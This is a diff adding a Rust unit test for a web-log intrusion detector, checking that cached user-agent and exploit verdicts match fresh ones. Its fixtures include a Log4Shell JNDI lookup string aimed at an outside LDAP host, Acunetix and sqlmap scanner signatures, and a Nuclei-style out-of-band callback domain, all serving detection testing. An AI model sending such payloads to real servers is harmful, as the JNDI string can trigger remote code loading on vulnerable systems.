@@ -213,3 +213,95 @@ fn a_user_file_adds_tools_and_a_bad_one_is_refused() {
     );
     let _ = std::fs::remove_file(&f);
 }
+
+/// The user-agent, target and header verdicts are cached by text: one
+/// detector set fed the same requests again and again (each from its own
+/// address, so that every request is its own episode) alerts exactly where
+/// a fresh set given that request alone does, for `web.scanner_ua` and
+/// `web.exploit` (whose header check is cached by user agent too).
+#[test]
+fn cached_verdicts_are_the_fresh_ones() {
+    let cfg = WebConfig::default();
+    let log4shell = "${jndi:ldap://198.51.100.1/a}";
+    let reqs: &[(&str, &str, &str)] = &[
+        ("/acunetix-wvs-test-for-some-inexistent-file", "", BROWSER),
+        ("/index.html", "", BROWSER),
+        ("/search", "q=wvstest=1", BROWSER),
+        ("/search", "q=1", BROWSER),
+        ("/", "", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+        ("/", "", log4shell),
+        ("/", "", BROWSER),
+        ("/x", "cb=abc.oast.fun", "curl/8.4.0"),
+        ("/x", "cb=abc.example.org", "curl/8.4.0"),
+    ];
+    let detectors = ["web.scanner_ua", "web.exploit"];
+    // What a fresh set says of each request alone: (detector, title).
+    let fresh = |path: &str, query: &str, ua: &str, ip: &str| -> Vec<(String, String)> {
+        let mut d = WebDetectors::new(&cfg);
+        let mut out = Vec::new();
+        d.observe(
+            &EventRef::Web(event(path, query, ua, ip)),
+            &origin(),
+            &mut out,
+        );
+        d.finish(&mut out);
+        let mut v: Vec<(String, String)> = out
+            .into_iter()
+            .filter(|a| detectors.contains(&a.detector.as_str()))
+            .map(|a| (a.detector, a.title))
+            .collect();
+        v.sort();
+        v
+    };
+    let mut d = WebDetectors::new(&cfg);
+    let mut out = Vec::new();
+    let mut want = Vec::new();
+    for round in 0..3 {
+        for (i, (path, query, ua)) in reqs.iter().enumerate() {
+            let ip = format!("203.0.113.{}", round * reqs.len() + i + 1);
+            want.extend(fresh(path, query, ua, &ip));
+            d.observe(
+                &EventRef::Web(event(path, query, ua, &ip)),
+                &origin(),
+                &mut out,
+            );
+        }
+    }
+    d.finish(&mut out);
+    let mut got: Vec<(String, String)> = out
+        .into_iter()
+        .filter(|a| detectors.contains(&a.detector.as_str()))
+        .map(|a| (a.detector, a.title))
+        .collect();
+    got.sort();
+    want.sort();
+    // Acunetix twice, sqlmap, the Nuclei callback; Log4Shell in a header.
+    assert_eq!(want.len(), 3 * 5, "{want:#?}");
+    assert_eq!(got, want);
+}
+
+fn event<'a>(path: &'a str, query: &'a str, ua: &'a str, ip: &str) -> WebEvent<'a> {
+    WebEvent {
+        ts: Ts(1_000),
+        source_ip: ip.parse().unwrap(),
+        method: "GET",
+        path,
+        query,
+        status: 404,
+        bytes: 200,
+        user_agent: ua,
+        referrer: "",
+        site: "elections.example.gov",
+        user: "",
+        forwarded: "",
+        protocol: "",
+    }
+}
+
+fn origin() -> Origin<'static> {
+    Origin {
+        file: "t.log",
+        line: 1,
+        raw: "x",
+    }
+}
